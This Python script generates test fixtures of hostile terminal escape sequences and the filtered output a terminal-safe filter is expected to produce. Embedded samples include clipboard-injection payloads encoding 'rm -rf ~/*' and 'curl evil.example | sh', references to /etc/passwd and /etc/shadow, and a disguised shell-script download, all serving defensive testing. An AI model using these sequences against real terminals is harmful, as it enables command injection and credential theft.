#!/usr/bin/env python3
"""Writes the hostile-sequence samples in this directory.

Each NAME.txt is terminal output an attacker on a target could send to an
investigator who replays the session: plain text with one family of
sequences that act outside the screen woven in.  NAME.expected is what the
terminal-safe filter (common/vt.c) must leave: the text, and nothing else.
benign.txt holds colours, cursor movement and erasing that must pass
unchanged (benign.expected is the same bytes).  tests/unit/test_vt.c runs
every pair; tests/fuzz/corpus/vt/ starts from the same files.

Run it from anywhere: python3 tests/data/escapes/make.py
"""
import os

ESC = b"\x1b"
CSI = ESC + b"["
OSC = ESC + b"]"
ST = ESC + b"\\"
BEL = b"\x07"

# (name, [piece...]): bytes pieces are hostile and must vanish; str pieces
# are text and must survive.
SAMPLES = {
    "osc52-clipboard": [
        "copy this: ", OSC + b"52;c;cm0gLXJmIH4vKg==" + BEL, "done\n",
        "primary: ", OSC + b"52;p;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==" + ST,
        "ok\n",
        "query: ", OSC + b"52;c;?" + BEL, "(read back)\n",
    ],
    "osc-title": [
        "a", OSC + b"0;root@prod: rm -rf /" + BEL, "b\n",
        "c", OSC + b"1;icon name" + ST, "d\n",
        "e", OSC + b"2;window title\xe2\x9c\x93" + BEL, "f\n",
        "g", OSC + b"2;ends with C1 ST\xc2\x9c", "h\n",
        "i", OSC + b"0;cancelled by CAN\x18", "j\n",
    ],
    "title-report": [
        "title? ", CSI + b"21t", "icon? ", CSI + b"20t", "size? ",
        CSI + b"18t", CSI + b"14t", CSI + b"19t", CSI + b"13t", "\n",
        "push/pop ", CSI + b"22;0t", CSI + b"23;0t", "resize ",
        CSI + b"8;100;300t", CSI + b"4;2000;2000t", "move ",
        CSI + b"3;0;0t", "iconify ", CSI + b"2t", CSI + b"1t",
        "raise ", CSI + b"5t", CSI + b"6t", "refresh ", CSI + b"7t",
        "\n",
    ],
    "osc8-hyperlink": [
        "see ", OSC + b"8;;https://evil.example/login" + ST, "the docs",
        OSC + b"8;;" + ST, " and ",
        OSC + b"8;id=x;file:///etc/shadow" + BEL, "this file",
        OSC + b"8;;" + BEL, "\n",
    ],
    "osc-other": [
        "palette ", OSC + b"4;1;rgb:ff/00/00" + BEL,
        OSC + b"4;1;?" + BEL, "colours ", OSC + b"10;?" + BEL,
        OSC + b"11;?" + ST, OSC + b"12;#ff0000" + BEL, "\n",
        "cwd ", OSC + b"7;file://host/tmp" + BEL, "notify ",
        OSC + b"9;you have mail" + BEL,
        OSC + b"777;notify;title;body" + ST, "marks ",
        OSC + b"133;A" + BEL, OSC + b"133;D;0" + ST, "font ",
        OSC + b"50;?" + BEL, "reset ", OSC + b"104" + BEL, "\n",
    ],
    "dcs": [
        "decrqss ", ESC + b"P$qm" + ST, ESC + b'P$q"p' + ST,
        "xtgettcap ", ESC + b"P+q544e;636f6c6f7273" + ST, "\n",
        "sixel ", ESC + b"Pq#0;2;0;0;0#1;2;100;100;0#1~~@@vv@@~~" + ST,
        "tmux passthrough ",
        ESC + b"Ptmux;" + ESC + ESC + b"]52;c;ZXZpbA==" + BEL + ST,
        "udk ", ESC + b"P0;1|17/72656d6f7665" + ST, "\n",
    ],
    "apc-pm-sos": [
        "apc ", ESC + b"_some application command" + ST, "pm ",
        ESC + b"^privacy message" + ST, "sos ",
        ESC + b"Xstart of string" + ST, "\n",
        "8-bit ends ", ESC + b"_x\xc2\x9c", "and CAN ",
        ESC + b"^y\x18", "and SUB ", ESC + b"Xz\x1a", "\n",
    ],
    "kitty-graphics": [
        "image ",
        ESC + b"_Ga=T,f=100,t=f;L2V0Yy9wYXNzd2Q=" + ST,
        "query ", ESC + b"_Gi=31,s=1,v=1,a=q,t=d,f=24;AAAA" + ST,
        "shm ", ESC + b"_Ga=t,t=s;L2Rldi9zaG0veA==" + ST, "\n",
    ],
    "device-queries": [
        "DA ", CSI + b"c", CSI + b"0c", "DA2 ", CSI + b">c",
        CSI + b">0c", "DA3 ", CSI + b"=c", CSI + b"=0c", "\n",
        "DSR ", CSI + b"5n", CSI + b"6n", CSI + b"?6n", CSI + b"?15n",
        CSI + b"?25n", CSI + b"?26n", CSI + b"?996n", "\n",
        "XTVERSION ", CSI + b">q", CSI + b">0q", "DECRQM ",
        CSI + b"?2004$p", CSI + b"4$p", "DECREQTPARM ", CSI + b"x",
        "DECRQCRA ", CSI + b"1;1;1;1;10;10*y", "\n",
        "DECID ", ESC + b"Z", "ENQ ", b"\x05", "kitty kbd ",
        CSI + b"?u", "XTQMODKEYS ", CSI + b"?4m", "XTSMGRAPHICS ",
        CSI + b"?1;1S", "DECRQPSR ", CSI + b"2$w", "\n",
    ],
    "c1-8bit": [
        "raw CSI ", b"\x9b21t", b"\x9b6n", "raw OSC ",
        b"\x9d52;c;ZXZpbA==\x07", b"\x9d0;title\x9c", "raw DCS ",
        b"\x90$qm\x9c", "raw APC ", b"\x9fGa=T;AAAA\x9c", "raw PM ",
        b"\x9eprivate\x9c", "raw SOS ", b"\x98x\x9c", "\n",
        "singles ", b"\x84\x85\x88\x8d\x8e\x8f\x9a\x9c", "\n",
        "UTF-8 CSI ", b"\xc2\x9b21t", "UTF-8 OSC ",
        b"\xc2\x9d2;title\xc2\x9c", "UTF-8 NEL ", b"\xc2\x85", "\n",
        "8-bit colour is dropped too ", b"\x9b31m", "plain\n",
    ],
    "iterm-file": [
        "download ",
        OSC + b"1337;File=name=ZXZpbC5zaA==;size=10;inline=0:"
        b"IyEvYmluL3NoCmlk" + BEL, "upload ",
        OSC + b"1337;RequestUpload=format=tgz" + ST, "clipboard ",
        OSC + b"1337;CopyToClipboard=" + BEL,
        OSC + b"1337;EndCopy" + BEL, "var ",
        OSC + b"1337;SetUserVar=x=eA==" + BEL, "\n",
    ],
    "zmodem": [
        "rz\r\n", b"**\x18B00000000000000", "\r", b"\x8a\x11", "\n",
        "sz file\r\n", b"**\x18B0100000023be50", "\r", b"\x8a\x11",
        "\n",
        "binary ", b"*\x18C\x04\x00\x00\x00\x00", "end\n",
    ],
    "input-modes": [
        "mouse ", CSI + b"?1000h", CSI + b"?1002h", CSI + b"?1003h",
        CSI + b"?1006h", CSI + b"?1015h", "focus ", CSI + b"?1004h",
        "paste ", CSI + b"?2004h", "keys ", CSI + b"?1h", ESC + b"=",
        CSI + b">4;2m", CSI + b">1u", CSI + b"=1;1u", CSI + b"<u",
        "\n", "8-bit mode ", ESC + b" G", "charset mode ", ESC + b"%@",
        "reset ", ESC + b"c", CSI + b"!p", "scrollback ", CSI + b"3J",
        "cursor style ", CSI + b"2 q", "\n",
    ],
    "controls": [
        "bell", b"\x07", " nul", b"\x00", " del", b"\x7f", " can",
        b"\x18", " sub", b"\x1a", " esc-k ", ESC + b"k",
        "title-as-text", ESC + b"\\", " fs", b"\x1c\x1d\x1e\x1f", "\n",
    ],
}

BENIGN = (
    b"plain text, tabs\tand CRLF\r\n"
    b"\x1b[1;31mbold red\x1b[0m \x1b[38;5;208morange\x1b[m "
    b"\x1b[38:2::255:128:0mtruecolor\x1b[0m \x1b[4:3mcurly\x1b[24m\r\n"
    b"\x1b[2J\x1b[H\x1b[K\x1b[5;10H\x1b[3A\x1b[2B\x1b[4C\x1b[1D"
    b"\x1b[2K\x1b[1J\x1b[0J\x1b[3@\x1b[2P\x1b[4X\x1b[L\x1b[M\x1b[S"
    b"\x1b[T\x1b[12G\x1b[5d\x1b[2;20r\x1b[r\x1b7\x1b8\x1b[s\x1b[u"
    b"\x1bM\x1bD\x1bE\x1b[?25l\x1b[?25h\x1b[?7l\x1b[?7h\r\n"
    b"\x1b[?1049h\x1b[Hfull screen\x1b[?1049l\r\n"
    b"\x1b(0lqqk\x1b(B boxes, *stars* **bold** ***x***\r\n"
    b"na\xc3\xafve caf\xc3\xa9 \xe2\x80\x94 \xe6\x97\xa5\xe6\x9c\xac"
    b"\xe8\xaa\x9e \xe2\x9c\x93 \xf0\x9f\x99\x82\r\n"
    b"backspace\x08\x08 form\x0cfeed vtab\x0b\r\n"
    b"\x1b[7mreverse\x1b[27m \x1b[48;5;17mbg\x1b[49m \x1b[0m\r\n"
)


def main():
    here = os.path.dirname(os.path.abspath(__file__))
    for name, pieces in SAMPLES.items():
        raw = b"".join(p if isinstance(p, bytes) else p.encode()
                       for p in pieces)
        kept = "".join(p for p in pieces if isinstance(p, str)).encode()
        with open(os.path.join(here, name + ".txt"), "wb") as f:
            f.write(raw)
        with open(os.path.join(here, name + ".expected"), "wb") as f:
            f.write(kept)
    for ext in ("txt", "expected"):
        with open(os.path.join(here, "benign." + ext), "wb") as f:
            f.write(BENIGN)


if __name__ == "__main__":
    main()
